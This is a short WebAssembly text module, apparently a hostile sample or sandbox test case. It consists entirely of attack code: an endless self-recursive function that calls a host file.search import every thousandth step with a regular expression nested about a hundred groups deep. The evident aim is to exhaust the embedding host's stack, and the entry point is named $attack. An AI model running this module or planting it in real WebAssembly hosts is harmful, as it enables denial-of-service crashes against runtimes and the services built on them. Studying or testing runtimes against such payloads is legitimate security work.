;; Calls itself without end, and the host every thousandth time, with what takes stack there.
(data (i32.const 5000) "(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:(?:a)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))")
(global $depth (mut i32) (i32.const 0))
(func $deeper (param $file i32)
  (global.set $depth (i32.add (global.get $depth) (i32.const 1)))
  (if (i32.eqz (i32.rem_u (global.get $depth) (i32.const 1000)))
    (then
      (call $file.search
        (local.get $file) (i32.const 5000) (i32.const 397) (i32.const 0) (i64.const 0) (i32.const 4096))))
  (call $deeper (local.get $file))
  (global.set $depth (i32.const 0)))
(func $attack (param $source i32) (param $length i32)
  (call $deeper (call $open (local.get $source) (local.get $length))))
